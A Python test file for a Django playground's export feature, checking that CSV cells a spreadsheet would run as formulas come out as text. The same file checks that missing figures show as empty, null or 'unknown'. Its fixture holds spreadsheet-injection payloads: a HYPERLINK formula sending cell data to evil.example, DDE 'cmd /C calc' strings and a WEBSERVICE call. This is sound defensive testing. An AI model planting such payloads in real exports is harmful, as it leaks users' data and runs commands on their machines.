"""Exports: CSV cells a spreadsheet would run as formulas come out as text (also from public
links); missing figures are empty in CSV, null in JSON and "unknown" in Markdown."""

from __future__ import annotations

import csv
import io
import json
from decimal import Decimal

import pytest
from django.test import Client

from playground.exports import csv_cell
from playground.models import Comparison, Run, Share, Turn
from playground.serialization import RUN_FIELDS

pytestmark = pytest.mark.django_db

HOSTILE = {
    "text": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "error": "+cmd|' /C calc'!A0",
    "model_label": "@SUM(1+1)*cmd|' /C calc'!A0",
    "finish_reason": "-2+3",
    "reasoning": "\t=1+1",
    "note": "\r=1+1",
}


@pytest.fixture
def comparison(user) -> Comparison:
    comparison = Comparison.objects.create(owner=user, title="=1+2", system_prompt="Be brief.")
    turn = Turn.objects.create(comparison=comparison, index=0, prompt="=WEBSERVICE(A1)")
    common = {"comparison": comparison, "turn": turn, "provider_label": "Sim"}
    Run.objects.create(
        **common,
        position=0,
        model_name="sim:alpha",
        provider_kind="openai",
        status=Run.Status.ERROR,
        cost=Decimal(0),
        cost_source=Run.CostSource.NOT_BILLED,
        **HOSTILE,
    )
    Run.objects.create(
        **common,
        position=1,
        model_name="sim:beta",
        model_label="Beta",
        provider_kind="openai",
        status=Run.Status.DONE,
        text="A plain answer - with a dash inside.",
        ttft_ms=120.0,
        input_tokens=12,
        output_tokens=30,
        cost=Decimal("0.000123"),
        cost_source=Run.CostSource.PROVIDER,
        retries=1,
        retry_wait_ms=600.0,
    )
    Run.objects.create(
        **common,
        position=2,
        model_name="sim:gamma",
        model_label="Gamma",
        provider_kind="openai",
        status=Run.Status.STOPPED,
    )
    return comparison


def rows(body: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(body.decode())))


def test_csv_cell_prefixes_formula_starts():
    for start in ["=", "+", "-", "@", "\t", "\r"]:
        assert csv_cell(f"{start}1") == f"'{start}1"
    assert csv_cell("plain = fine") == "plain = fine"
    assert csv_cell(120.0) == "120.0" and csv_cell(None) == "" and csv_cell(0) == "0"


@pytest.mark.parametrize("where", ["owner", "public"])
def test_csv_formulas_come_out_as_text(user, comparison, where):
    if where == "owner":
        client = Client()
        client.force_login(user)
        url = f"/c/{comparison.pk}/export.csv"
    else:
        share = Share.objects.create(comparison=comparison, audience=Share.Audience.PUBLIC)
        client, url = Client(), f"/s/{share.token}/export.csv"  # logged out
    response = client.get(url)
    assert response.status_code == 200
    hostile, plain, missing = rows(response.content)
    assert list(hostile) == ["turn", "prompt", *RUN_FIELDS]
    assert hostile["prompt"] == "'=WEBSERVICE(A1)"
    for name, value in HOSTILE.items():
        assert hostile[name] == "'" + value, name
    for row in (hostile, plain, missing):
        for name, cell in row.items():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (name, cell)
    assert plain["text"] == "A plain answer - with a dash inside."
    assert plain["ttft_ms"] == "120.0" and plain["cost_usd"] == "0.00012300"
    assert plain["retries"] == "1" and plain["retry_wait_ms"] == "600.0"
    assert hostile["cost_source"] == "not_billed" and hostile["cost_usd"] == "0.00000000"
    assert missing["ttft_ms"] == "" and missing["cost_usd"] == ""  # missing: an empty cell


def test_json_and_markdown_say_unknown_and_not_billed(user, comparison):
    client = Client()
    client.force_login(user)
    data = json.loads(client.get(f"/c/{comparison.pk}/export.json").content)
    (turn,) = data["turns"]
    refused, plain, missing = turn["runs"]
    assert [list(run) for run in turn["runs"]] == [list(RUN_FIELDS)] * 3
    assert refused["cost_source"] == "not_billed" and refused["cost_usd"] == "0.00000000"
    assert missing["cost_usd"] is None and missing["ttft_ms"] is None
    assert plain["retries"] == 1 and plain["retry_wait_ms"] == 600.0
    assert turn["total_cost_usd"] == "0.00012300" and turn["unknown_cost_runs"] == 1
    assert data["system_prompt"] == "Be brief." and data["owner"] == "ada"  # the owner's own

    markdown = client.get(f"/c/{comparison.pk}/export.md").content.decode()
    table = [line for line in markdown.splitlines() if line.startswith("| ")]
    header, refused_row, plain_row, missing_row = table
    assert "| Retries |" in header
    assert refused_row.split(" | ")[6] == "not billed"
    assert plain_row.endswith(
        "| 120 ms | unknown | unknown | 12 / 30 | $0.000123 | retried 1×, +0.6 s |"
    )
    assert missing_row.endswith(
        "| stopped | unknown | unknown | unknown | unknown / unknown | unknown | none |"
    )
    assert "Total: $0.000123 + 1 unknown" in markdown
    assert "—" not in markdown.split("\n", 1)[1]
